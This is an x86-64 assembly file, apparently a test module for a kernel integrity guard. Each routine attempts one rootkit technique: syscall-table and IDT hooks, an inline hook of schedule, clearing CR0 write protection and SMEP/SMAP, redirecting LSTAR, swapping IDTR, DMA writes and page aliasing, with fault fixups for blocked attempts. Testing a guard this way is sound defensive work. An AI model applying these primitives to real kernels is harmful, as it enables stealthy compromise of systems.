# The rootkit: a module whose routines each do one thing that a guarded kernel must not let happen.
#
# A module is linked against the running kernel, so kernel symbols appear as 64-bit addresses and are called through a
# register. The one store (or load, jump, register write) that matters in each routine has an entry in the module's
# exception table: where the answer is an injected exception, the routine ends at its `fail` label with -EFAULT.

    .section .module.text, "ax"

.macro KADDR symbol reg
    movabsq $\symbol, \reg
.endm

.macro KCALL symbol
    movabsq $\symbol, %rax
    call *%rax
.endm

.macro GUARD insn fixup
    EXTABLE \insn, \fixup, __module_ex_table
.endm

.macro PROLOGUE
    pushq %rbx
    pushq %r12
    pushq %r13
    incq evil_serial(%rip)
.endm

# Both ends of a routine: 0, and -EFAULT after a fault.
.macro EPILOGUE
    xorl %eax, %eax
    jmp 91f
90: movq $-EFAULT, %rax
91: popq %r13
    popq %r12
    popq %rbx
    ret
.endm

# The store of a routine that does nothing but a plain one: the serial number, to where RBX points.
.macro KERNEL_STORE fixup
    movq evil_serial(%rip), %rax
71: movq %rax, (%rbx)
    GUARD 71b, \fixup
.endm

# A jump to evil_schedule over the instructions after schedule's ftrace NOP: one store of eight bytes.
FUNC attack_inline_hook
    PROLOGUE
    KADDR schedule+5, %rbx
    leaq evil_schedule(%rip), %rcx
    subq %rbx, %rcx
    subq $5, %rcx
    movl %ecx, %ecx
    shlq $8, %rcx
    movabsq $0xcccccc00000000e9, %r12       # jmp rel32, int3, int3, int3
    orq %rcx, %r12
    movq %rbx, %rdi
    KCALL set_memory_rw
1:  movq %r12, (%rbx)
    GUARD 1b, 89f
    movq %rbx, %rdi
    KCALL set_memory_ro
    EPILOGUE
89: movq %rbx, %rdi
    KCALL set_memory_ro
    jmp 90b
ENDF attack_inline_hook

# getpid, through the direct map's alias of the table.
FUNC attack_syscall_hook
    PROLOGUE
    KADDR sys_call_table+__NR_getpid*8, %rdi
    KCALL lm_alias
    leaq evil_getpid(%rip), %rcx
1:  movq %rcx, (%rax)
    GUARD 1b, 90f
    EPILOGUE
ENDF attack_syscall_hook

# Eight bytes that begin four before the guarded object.
FUNC attack_straddle
    PROLOGUE
    KADDR guarded_object-4, %rbx
    movabsq $0x4141414141414141, %rcx
    movb evil_serial(%rip), %cl
1:  movq %rcx, (%rbx)
    GUARD 1b, 90f
    EPILOGUE
ENDF attack_straddle

# Thirty-two bytes of text by a string instruction.
FUNC attack_rep_movs
    PROLOGUE
    KADDR kernel_power_off+8, %rdi
    KCALL lm_alias
    movq %rax, %rdi
    leaq evil_code(%rip), %rsi
    movb evil_serial(%rip), %al
    movb %al, (%rsi)
    movl $4, %ecx
1:  rep movsq
    GUARD 1b, 90f
    EPILOGUE
ENDF attack_rep_movs

# fork, by an exchange, which is locked whether it says so or not and leaves the old pointer in a register.
FUNC attack_xchg
    PROLOGUE
    KADDR sys_call_table+__NR_fork*8, %rbx
    movq %rbx, %rdi
    KCALL set_memory_rw
    leaq evil_fork(%rip), %r12
1:  xchgq %r12, (%rbx)
    GUARD 1b, 89f
    movq %r12, evil_original(%rip)
    movq %rbx, %rdi
    KCALL set_memory_ro
    EPILOGUE
89: movq %rbx, %rdi
    KCALL set_memory_ro
    jmp 90b
ENDF attack_xchg

# The gate of int 0x80: one store of sixteen bytes.
FUNC attack_idt_entry
    PROLOGUE
    call evil_map_for_user
    leaq evil_int80(%rip), %rax
    KADDR idt_table+0x80*16, %rbx
    subq $16, %rsp
    movw %ax, (%rsp)
    movl $(0xee000000 | __KERNEL_CS), 2(%rsp)
    shrq $16, %rax
    movw %ax, 6(%rsp)
    shrq $16, %rax
    movq %rax, 8(%rsp)
    movdqu (%rsp), %xmm0
    addq $16, %rsp
1:  movdqu %xmm0, (%rbx)
    GUARD 1b, 90f
    EPILOGUE
ENDF attack_idt_entry

# Write protection off in CR0, a store into the read-only table, and on again.
FUNC attack_wp_clear
    PROLOGUE
    KADDR sys_call_table+62*8, %rbx
    leaq evil_fork(%rip), %r12
    movq %cr0, %rax
    btrq $CR0_WP_BIT, %rax
1:  movq %rax, %cr0
    GUARD 1b, 90f
2:  movq %r12, (%rbx)
    GUARD 2b, 89f
    movq %cr0, %rax
    btsq $CR0_WP_BIT, %rax
    movq %rax, %cr0
    EPILOGUE
89: movq %cr0, %rax
    btsq $CR0_WP_BIT, %rax
    movq %rax, %cr0
    jmp 90b
ENDF attack_wp_clear

# SMEP and SMAP off.
FUNC attack_smep_clear
    PROLOGUE
    movq %cr4, %rax
    andq $~(3 << CR4_SMEP_BIT), %rax
1:  movq %rax, %cr4
    GUARD 1b, 90f
    EPILOGUE
ENDF attack_smep_clear

# Every system call through our own entry.
FUNC attack_lstar
    PROLOGUE
    call evil_map_for_user
    leaq evil_entry_SYSCALL_64(%rip), %rax
    movq %rax, %rdx
    shrq $32, %rdx
    movl $MSR_LSTAR, %ecx
1:  wrmsr
    GUARD 1b, 90f
    EPILOGUE
ENDF attack_lstar

# IDTR to a copy of the table.
FUNC attack_idtr
    PROLOGUE
    call evil_map_for_user
    KADDR idt_table, %rsi
    leaq evil_idt(%rip), %rdi
    movq %rdi, (evil_idt_descr + 2)(%rip)
    movl $512, %ecx
    rep movsq
1:  lidt evil_idt_descr(%rip)
    GUARD 1b, 90f
    EPILOGUE
ENDF attack_idtr

# Run bytes that the kernel keeps as data.
FUNC attack_execute
    PROLOGUE
    KADDR data_code, %rbx
    movq %rbx, %rdi
    KCALL set_memory_x
    call *%rbx
    movq %rbx, %rdi
    KCALL set_memory_nx
    EPILOGUE
ENDF attack_execute

# Read what is guarded into a buffer of our own.
FUNC attack_read
    PROLOGUE
    KADDR guarded_object, %rbx
1:  movq (%rbx), %rax
    GUARD 1b, 90f
    movb evil_serial(%rip), %ah
    movq %rax, evil_loot(%rip)
    EPILOGUE
ENDF attack_read

# Sixteen bytes compared and exchanged: an instruction that KVM's emulator doesn't know.
FUNC attack_cmpxchg16b
    PROLOGUE
    KADDR guarded_object+8, %r13
    movq (%r13), %rax
    movq 8(%r13), %rdx
    movq evil_serial(%rip), %rbx
    movq %rax, %rcx
1:  lock cmpxchg16b (%r13)
    GUARD 1b, 90f
    EPILOGUE
ENDF attack_cmpxchg16b

# A value popped from the stack into the guarded object: the store isn't all that the instruction does.
FUNC attack_pop
    PROLOGUE
    KADDR guarded_object, %rbx
    movq %rsp, %r12
    pushq evil_serial(%rip)
1:  popq 24(%rbx)
    GUARD 1b, 89f
    movq %r12, %rsp
    EPILOGUE
89: movq %r12, %rsp
    jmp 90b
ENDF attack_pop

# A mapping of the guarded object's frame that the module makes itself.
FUNC attack_second_mapping
    PROLOGUE
    KADDR guarded_object+32, %rbx
    movabsq $EVIL_ALIAS, %r12
    KADDR level1_module_pgt+256*8, %r13
    call evil_map
    KERNEL_STORE 90f
    EPILOGUE
ENDF attack_second_mapping

# Eight bytes over a page's end: the object is the first of the second page.
FUNC attack_page_straddle
    PROLOGUE
    KADDR guarded_head-4, %rbx
    KERNEL_STORE 90f
    EPILOGUE
ENDF attack_page_straddle

# And the other way about: the object is the last of the first page.
FUNC attack_page_straddle_tail
    PROLOGUE
    KADDR guarded_tail+12, %rbx
    KERNEL_STORE 90f
    EPILOGUE
ENDF attack_page_straddle_tail

# Another frame under __text_poke, with a store of ours where the function begins.
FUNC attack_exchanged_frame
    PROLOGUE
    KADDR __text_poke, %rbx
    call evil_copy
    movl $0xc3378948, (%rax)                # movq %rsi, (%rdi); ret
    call evil_exchange
    KADDR kernel_power_off+40, %rdi
    KCALL lm_alias
    movq %rax, %rdi
    movq evil_serial(%rip), %rsi
    call *%rbx
    call evil_exchange_back
    EPILOGUE
ENDF attack_exchanged_frame

# Another frame under the place in __text_poke that memcpy seems to be called from.
FUNC attack_exchanged_caller
    PROLOGUE
    KADDR .L__text_poke_done, %rbx
    call evil_copy
    movb $0xc3, (%rax)                      # ret
    call evil_exchange
    KADDR kernel_power_off+48, %rdi
    KCALL lm_alias
    movq %rax, %rdi
    leaq evil_serial(%rip), %rsi
    movl $8, %edx
    leaq 1f(%rip), %rax
    pushq %rax
    pushq %rbx
    KADDR memcpy, %rax
    jmp *%rax
1:  call evil_exchange_back
    EPILOGUE
ENDF attack_exchanged_caller

.macro USER_ATTACK name code offset cs=__USER_CS
FUNC attack_\name
    PROLOGUE
    KADDR guarded_object+\offset, %rbx
    movl $USER_ALIAS, %r12d
    KADDR level1_user_pgt+2*8, %r13
    call evil_map
    btsq $2, (%r13)                         # _PAGE_USER
    movq %rbx, %rdi
    movq evil_serial(%rip), %rsi
    movl $\code, %edx
    movl $\cs, %ecx
    KCALL call_user
    EPILOGUE
ENDF attack_\name
.endm

    # From user mode, by an alias of the guarded page there: a store, and stacks that end in the object.
    USER_ATTACK user_store, user_store, 48
    USER_ATTACK user_push, user_push, 64
    USER_ATTACK user_call, user_call, 72
    USER_ATTACK user_enter, user_enter, 80
    USER_ATTACK user32_store, user32_store, 88, __USER32_CS
    USER_ATTACK user32_push, user32_push, 96, __USER32_CS

# A stack of the kernel's in the guarded page, ending in the object.
FUNC attack_push
    PROLOGUE
    cli
    movq %rsp, %r12
    KADDR guarded_object+4, %rsp
1:  pushq evil_serial(%rip)
    GUARD 1b, 89f
    movq %r12, %rsp
    sti
    EPILOGUE
89: movq %r12, %rsp
    sti
    jmp 90b
ENDF attack_push

# The frame of an interrupt, pushed by the processor onto the guarded object.
FUNC attack_interrupt_frame
    PROLOGUE
    cli
    movq %rsp, %r12
    KADDR guarded_object+176, %rsp
1:  int $0x80
    GUARD 1b, 89f
    movq %r12, %rsp
    sti
    EPILOGUE
89: movq %r12, %rsp
    sti
    jmp 90b
ENDF attack_interrupt_frame

# 512 bytes of x87 and SSE state.
FUNC attack_fxsave
    PROLOGUE
    KADDR guarded_object+8, %rbx
    movq evil_serial(%rip), %rax
    movq %rax, %xmm0
1:  fxsave (%rbx)
    GUARD 1b, 90f
    EPILOGUE
ENDF attack_fxsave

# The same by an instruction that KVM's emulator doesn't know.
FUNC attack_xsave
    PROLOGUE
    KADDR guarded_object+40, %rbx           # 64 bytes aligned
    fninit
    fildl evil_serial(%rip)
    movl $1, %eax
    xorl %edx, %edx
1:  xsave (%rbx)
    GUARD 1b, 89f
    fninit
    EPILOGUE
89: fninit
    jmp 90b
ENDF attack_xsave

# Past the caches.
FUNC attack_movnti
    PROLOGUE
    KADDR guarded_object+104, %rbx
    movq evil_serial(%rip), %rax
1:  movnti %rax, (%rbx)
    GUARD 1b, 90f
    EPILOGUE
ENDF attack_movnti

# Sixteen bytes from an SSE register.
FUNC attack_movaps
    PROLOGUE
    KADDR guarded_object+120, %rbx
    movq evil_serial(%rip), %rax
    movq %rax, %xmm0
1:  movaps %xmm0, (%rbx)
    GUARD 1b, 90f
    EPILOGUE
ENDF attack_movaps

# Bytes that a mask chooses, to where RDI points: another one that KVM's emulator doesn't know.
FUNC attack_maskmov
    PROLOGUE
    KADDR guarded_object+112, %rdi
    movq evil_serial(%rip), %rax
    movq %rax, %xmm0
    pcmpeqd %xmm1, %xmm1
    psrldq $8, %xmm1
1:  maskmovdqu %xmm1, %xmm0
    GUARD 1b, 90f
    EPILOGUE
ENDF attack_maskmov

# An integer from the x87 stack, which is popped.
FUNC attack_fistp
    PROLOGUE
    KADDR guarded_object+136, %rbx
    fninit
    fildq evil_serial(%rip)
1:  fistpq (%rbx)
    GUARD 1b, 89f
    EPILOGUE
89: fninit
    jmp 90b
ENDF attack_fistp

FUNC attack_cmpxchg
    PROLOGUE
    KADDR guarded_object+144, %rbx
    movq (%rbx), %rax
    movq evil_serial(%rip), %rcx
1:  lock cmpxchgq %rcx, (%rbx)
    GUARD 1b, 90f
    EPILOGUE
ENDF attack_cmpxchg

# A bit that lies a megabyte above the operand: what is written isn't where the instruction points.
FUNC attack_bit_string
    PROLOGUE
    KADDR guarded_object+152-0x100000, %rbx
    movl $(0x100000 * 8 + 5), %ecx
1:  lock btcq %rcx, (%rbx)
    GUARD 1b, 90f
    EPILOGUE
ENDF attack_bit_string

# Text overwritten by code of the same page: the copy routine is made to write behind itself.
FUNC attack_own_page
    PROLOGUE
    KADDR noinstr_spare+8, %rbx
    movq %rbx, %rdi
    KCALL set_memory_rw
    movq %rbx, %rdi
    leaq evil_serial(%rip), %rsi
    movl $8, %edx
    KCALL memcpy
    movq %rbx, %rdi
    KCALL set_memory_ro
    EPILOGUE
ENDF attack_own_page

# Code that writes the store which it comes to next.
FUNC attack_self_modifying
    PROLOGUE
    KADDR guarded_object+160, %rbx
    leaq 1f(%rip), %r12
    movq %r12, %rcx
    movabsq $MODULE_BASE, %rdx
    subq %rdx, %rcx
    shrq $12, %rcx
    KADDR level1_module_pgt, %rdx
    btsq $1, (%rdx, %rcx, 8)                # _PAGE_RW
    invlpg (%r12)
    movl evil_serial(%rip), %eax
    movl %eax, 3(%r12)
1:  movq $0x5a5a5a5a, (%rbx)
    GUARD 1b, 90f
    EPILOGUE
ENDF attack_self_modifying

    # What they have in common.

# Map the page of the kernel address RBX at R12, by the entry at R13; RBX becomes its address there.
FUNC evil_map
    movq %rbx, %rdi
    KCALL __phys_addr
    andq $~(PAGE_SIZE - 1), %rax
    orq $(_PAGE_PRESENT | _PAGE_RW), %rax
    btsq $NX_BIT, %rax
    movq %rax, (%r13)
    invlpg (%r12)
    andl $(PAGE_SIZE - 1), %ebx
    addq %r12, %rbx
    ret
ENDF evil_map

# Copy the page of the kernel address RBX; RAX is where the byte at RBX lies in the copy.
FUNC evil_copy
    movq %rbx, %rsi
    andq $~(PAGE_SIZE - 1), %rsi
    leaq evil_page(%rip), %rdi
    movl $(PAGE_SIZE / 8), %ecx
    rep movsq
    leaq evil_page(%rip), %rax
    movl %ebx, %ecx
    andl $(PAGE_SIZE - 1), %ecx
    addq %rcx, %rax
    ret
ENDF evil_copy

# Put the copy under the page of RBX. R12 keeps the entry that was there, R13 is its address.
FUNC evil_exchange
    KADDR _text, %rax
    movq %rbx, %rcx
    subq %rax, %rcx
    shrq $12, %rcx
    KADDR level1_kernel_pgt, %r13
    leaq (%r13, %rcx, 8), %r13
    movq (%r13), %r12
    KADDR __module_image, %rdi
    KCALL __phys_addr
    leaq evil_page(%rip), %rcx
    addq %rcx, %rax
    movabsq $MODULE_BASE, %rcx
    subq %rcx, %rax
    orq $_PAGE_PRESENT, %rax
    movq %rax, (%r13)
    invlpg (%rbx)
    ret
ENDF evil_exchange

FUNC evil_exchange_back
    movq %r12, (%r13)
    invlpg (%rbx)
    ret
ENDF evil_exchange_back
# exit's entry, by a device that copies memory: the one store that no processor makes.
FUNC attack_dma
    PROLOGUE
    KADDR dma_buffer, %rbx
    leaq evil_fork(%rip), %rcx
    movq %rcx, (%rbx)
    movq %rbx, %rdi
    KCALL __phys_addr
    movq %rax, 8(%rbx)
    KADDR sys_call_table+60*8, %rdi
    KCALL __phys_addr
    movq %rax, 16(%rbx)
    movq $8, 24(%rbx)
    leaq 8(%rbx), %rdi
    KCALL __phys_addr
    movl $DMA_PORT, %edx
    outl %eax, %dx
    EPILOGUE
ENDF attack_dma

    # Where the hooks lead.

FUNC evil_schedule
    incq evil_hits(%rip)
    pushq %rbp
    movq %rsp, %rbp
    pushq %r15
    pushq %r14
    KADDR .Lschedule_hookable_end, %r11
    jmp *%r11
ENDF evil_schedule

# What user mode comes upon before the kernel's root is loaded has to be in its own root too: the whole module area, by
# one entry of a table.
FUNC evil_map_for_user
    testb $1, %gs:PCPU_KPTI
    jz 1f
    KADDR level3_kernel_pgt+511*8, %rax
    movq (%rax), %rax
    KADDR level3_entry_pgt+511*8, %rcx
    movq %rax, (%rcx)
1:  ret
ENDF evil_map_for_user

FUNC evil_getpid
    incq evil_hits(%rip)
    KADDR last_pid, %rcx
    movl $31337, %eax
    movq %rax, (%rcx)
    ret
ENDF evil_getpid

FUNC evil_fork
    incq evil_hits(%rip)
    KADDR sys_ni_syscall, %rax
    jmp *%rax
ENDF evil_fork

FUNC evil_int80
    incq evil_hits(%rip)
    jmp *evil_int80_continue(%rip)
ENDF evil_int80

FUNC evil_entry_SYSCALL_64
    incq evil_hits(%rip)                    # no stack of the kernel's yet, and no register to spare
    jmp *evil_continue(%rip)
ENDF evil_entry_SYSCALL_64

    .section .module.init, "ax"

# What runs once, and is freed then.
FUNC evil_init
    xorl %eax, %eax
    ret
ENDF evil_init

    .section .module.data, "aw"

    .balign PAGE_SIZE
OBJECT evil_page
    .fill PAGE_SIZE, 1, 0
ENDO evil_page
OBJECT evil_serial
    .quad 0
OBJECT evil_hits
    .quad 0
evil_code:
    .fill 32, 1, 0xf1
evil_continue:
    .quad entry_SYSCALL_64
evil_int80_continue:
    .quad entry_INT80_compat
OBJECT evil_original
    .quad 0
OBJECT evil_loot
    .quad 0
evil_idt_descr:
    .word 256 * 16 - 1
    .quad 0
    .balign 16
OBJECT evil_idt
    .fill 256 * 16, 1, 0
ENDO evil_idt
